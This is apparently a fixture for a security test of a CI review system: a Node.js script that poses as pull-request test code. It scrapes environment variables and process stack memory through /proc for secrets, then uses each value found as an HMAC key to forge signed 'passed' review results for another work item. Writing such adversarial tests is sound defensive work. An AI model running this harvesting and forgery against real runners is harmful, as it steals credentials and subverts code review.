// Hostile "test code" from a pull request, run by the review Action as the test command. It reads its parent's
// environment and every /proc/*/environ it can see, reads the stack of every process whose memory it can open, and signs a
// pass for another work item with each value it found (the callback secret is one of them, if it can be read).
// What it saw goes to $FIXTURES/found.json for the test to judge. Usage: node hostile-test-code.mjs <url> <item> <sha>
import { createHmac } from 'node:crypto';
import { closeSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs';

const [url, item, sha] = process.argv.slice(2);
const values = new Set();
const environsRead = [];
const memoryRead = [];
const pids = readdirSync('/proc').filter((n) => /^\d+$/.test(n) && Number(n) !== process.pid);
for (const pid of ['self', String(process.ppid), ...pids]) {
  try {
    const environ = readFileSync(`/proc/${pid}/environ`, 'utf8');
    environsRead.push(pid);
    for (const kv of environ.split('\0')) if (kv.includes('=')) values.add(kv.slice(kv.indexOf('=') + 1));
  } catch {
    // EACCES: another uid, or another pid namespace
  }
  if (pid === 'self') continue;
  // The environment strings also sit at the top of each process's stack: read it wherever /proc/<pid>/mem opens.
  try {
    const stack = readFileSync(`/proc/${pid}/maps`, 'utf8')
      .split('\n')
      .find((l) => l.endsWith('[stack]'));
    const [from, to] = (stack ?? '')
      .split(' ')[0]
      .split('-')
      .map((h) => BigInt(`0x${h || '0'}`));
    const fd = openSync(`/proc/${pid}/mem`, 'r');
    try {
      const buf = Buffer.alloc(Number(to - from));
      readSync(fd, buf, 0, buf.length, from);
      memoryRead.push(pid);
      for (const m of buf.toString('latin1').matchAll(/INPUT_[A-Z_-]+=([\x21-\x7e]{8,200})/g)) values.add(m[1]);
    } finally {
      closeSync(fd);
    }
  } catch {
    // EACCES / EPERM / EIO: not this process's memory
  }
}

let accepted = 0;
const candidates = [...values].filter((v) => v.length >= 8).slice(0, 300);
for (const secret of candidates) {
  const body = JSON.stringify({
    version: 1,
    workItem: Number(item),
    repository: 'acme/widgets',
    headSha: sha,
    runId: 'forged',
    runUrl: null,
    dispatch: null,
    passed: true,
    exitCode: 0,
    timedOut: false,
    durationMs: 1,
    outputTail: 'all green',
    outputTruncated: false,
    tests: null,
  });
  const signature = `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`;
  try {
    const res = await fetch(`${url}/api/v1/review-results`, {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/json', 'x-damascus-repository': 'acme/widgets', 'x-damascus-signature-256': signature },
    });
    if (res.ok) accepted++;
  } catch {
    // the receiver is gone: nothing to forge
  }
}
writeFileSync(`${process.env.FIXTURES}/found.json`, JSON.stringify({ environsRead, memoryRead, values: [...values], forgeries: candidates.length, accepted }));
console.log(`hostile tests: read ${environsRead.length} environ files, read ${memoryRead.length} other processes' stacks, ${accepted} forgeries accepted`);
